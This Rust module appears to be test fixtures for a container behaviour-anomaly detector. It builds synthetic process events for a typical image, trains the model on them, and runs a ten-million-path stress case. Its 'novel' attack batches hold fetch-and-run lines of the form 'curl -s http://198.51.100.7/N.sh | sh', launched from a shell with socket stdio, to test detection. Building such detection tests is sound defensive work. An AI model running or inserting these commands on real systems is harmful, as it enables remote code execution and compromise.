//! Made-up events of a typical image: thirty programs that show sixty behaviours.

use crate::{params, rules};
use plumbline_model::{
    Model,
    event::{Action, Batch, ClosedWindow, Container, Event, Image, Process, ProcessFlags},
};

/// Digest of the image.
const DIGEST: &str = "sha256:0123456789abcdef";
/// Length of an exposure window.
const WINDOW_NS: u64 = 60_000_000_000;
/// Programs of the image.
const PROGRAMS: usize = 30;
/// Windows learned from, in each of three containers.
const WINDOWS: u64 = 5_000;
/// Of them, those in which all programs are at work.
const BUSY: u64 = 30;
/// Events of a batch that is timed.
const EVENTS: usize = 4_096;

/// The words that the events are made of.
pub(crate) struct Typical {
    paths: Vec<String>,
    arguments: Vec<Vec<String>>,
    commands: Vec<String>,
    containers: Vec<String>,
}

impl Typical {
    pub(crate) fn new() -> Self {
        let numbers = || 0..PROGRAMS;
        Self {
            paths: numbers().map(|n| format!("/usr/lib/service/bin/worker-{n}")).collect(),
            arguments: numbers()
                .map(|n| {
                    let words = ["--config", "/etc/service/main.conf", "--job", "rotate", "--retries", "3"];
                    let name = format!("worker-{n}");
                    [name.as_str()].iter().chain(words.iter().take(n % 7)).map(|w| (*w).to_owned()).collect()
                })
                .collect(),
            commands: (0..64).map(|n| format!("curl -s http://198.51.100.7/{n}.sh | sh")).collect(),
            containers: (0..64).map(|n| format!("{n:064x}")).collect(),
        }
    }

    fn process(&self, container: usize, program: usize) -> Process<'_> {
        Process {
            container,
            pid: program as u32 + 1,
            start_ticks: 1,
            parent: (program > 0).then_some(0),
            executable: &self.paths[program],
            arguments: self.arguments[program].iter().map(String::as_str).collect(),
            uid: 33,
            effective_uid: 33,
            flags: ProcessFlags(ProcessFlags::INIT_FAMILY),
            ..Process::default()
        }
    }

    /// A batch without events, with all programs in one container.
    fn batch<'b>(&'b self, digest: &'b str, container: usize) -> Batch<'b> {
        Batch {
            node: "node",
            window_ns: WINDOW_NS,
            images: vec![Image { digest, repository: digest, ..Image::default() }],
            containers: vec![Container {
                id: &self.containers[container],
                started_unix_ns: 1 + container as u64,
                ..Container::default()
            }],
            processes: (0..PROGRAMS).map(|program| self.process(0, program)).collect(),
            ..Batch::default()
        }
    }

    /// The sixty behaviours, one after the other: each program starts with its arguments from where it stands, and
    /// some serve, connect or ask.
    fn events(&self, time_unix_ns: u64) -> Vec<Event<'_>> {
        let event = |process, action| Event { process, time_unix_ns, count: 1, action };
        let starts = (0..PROGRAMS).map(|program| event(program, Action::Exec));
        let rest = [
            event(0, Action::Listen { address: "0.0.0.0", port: 8080 }),
            event(0, Action::Accept { address: "10.1.2.3", port: 8080 }),
            event(1, Action::Connect { address: "10.1.9.9", port: 5432, name: "db" }),
            event(1, Action::Resolve { name: "db.internal.example" }),
            event(2, Action::Connect { address: "93.184.216.34", port: 443, name: "api.example.com" }),
            event(2, Action::Resolve { name: "api.example.com" }),
        ];
        starts.chain(rest).collect()
    }

    /// A model that has learned the image.
    pub(crate) fn learned(&self) -> Model {
        let mut model = Model::new(params(), rules());
        self.teach(&mut model, DIGEST);
        model
    }

    fn teach(&self, model: &mut Model, digest: &str) {
        for container in 0..3 {
            let mut batch = self.batch(digest, container);
            batch.events = self.events(WINDOW_NS);
            model.apply(&batch, |_| true);
            // Enough windows with something in them that the rhythm is known too.
            batch.events = (2..2 + BUSY).flat_map(|window| self.events(window * WINDOW_NS)).collect();
            batch.windows =
                (0..WINDOWS).map(|window| ClosedWindow { container: 0, window, lossy: false }).collect();
            model.apply(&batch, |_| true);
        }
    }

    /// Many known events, in windows of their own.
    pub(crate) fn again(&self) -> Batch<'_> {
        let mut batch = self.batch(DIGEST, 0);
        let rounds = (0..).map(|round| self.events((WINDOWS + round) * WINDOW_NS));
        batch.events = rounds.flatten().take(EVENTS).collect();
        batch
    }

    /// Attacks, each in a container of its own: the service starts a shell that fetches and runs something.
    pub(crate) fn novel(&self) -> Vec<Batch<'_>> {
        (0..self.containers.len())
            .map(|container| {
                let mut batch = self.batch(DIGEST, container);
                batch.processes.push(Process {
                    pid: 4711,
                    executable: "/usr/bin/dash",
                    arguments: vec!["sh", "-c", &self.commands[container]],
                    flags: ProcessFlags(ProcessFlags::INIT_FAMILY | ProcessFlags::SOCKET_STDIO),
                    ..self.process(0, 1)
                });
                let (process, time_unix_ns) = (PROGRAMS, (WINDOWS + 1_000) * WINDOW_NS);
                batch.events = vec![Event { process, time_unix_ns, count: 1, action: Action::Exec }];
                batch
            })
            .collect()
    }

    /// A model of so many images, each learned.
    pub(crate) fn fleet(&self, images: usize) -> Model {
        let mut model = Model::new(params(), rules());
        for image in 0..images {
            self.teach(&mut model, &format!("sha256:{image:064x}"));
        }
        model
    }
}

/// A model whose one image was shown ten million paths, each started once, some with arguments as odd.
pub(crate) fn ten_million_paths() -> Model {
    const PATHS: u64 = 10_000_000;
    const AT_ONCE: u64 = 1_000;
    let mut model = Model::new(params(), rules());
    let mut number = 0_u64;
    while number < PATHS {
        let paths: Vec<String> = (number..number + AT_ONCE)
            .map(|n| {
                let mixed = n.wrapping_mul(0x9e37_79b9_7f4a_7c15);
                match n % 3 {
                    0 => format!("/tmp/{mixed:x}"),
                    1 => format!("/srv/{}/{mixed:x}", n % 7_919),
                    _ => format!("/x{}", format!("/{mixed:x}").repeat(n as usize % 20)),
                }
            })
            .collect();
        let mut batch = Batch {
            window_ns: WINDOW_NS,
            images: vec![Image { digest: "sha256:paths", repository: "paths", ..Image::default() }],
            containers: vec![Container { id: "c", started_unix_ns: 1, ..Container::default() }],
            ..Batch::default()
        };
        for (row, path) in paths.iter().enumerate() {
            batch.processes.push(Process {
                pid: 2 + row as u32,
                start_ticks: number,
                executable: path,
                arguments: vec![path, path],
                flags: ProcessFlags(ProcessFlags::UPPER_LAYER),
                ..Process::default()
            });
            let time_unix_ns = (1 + number) * 1_000_000;
            batch.events.push(Event { process: row, time_unix_ns, count: 1, action: Action::Exec });
        }
        model.apply(&batch, |_| true);
        number += AT_ONCE;
    }
    model
}
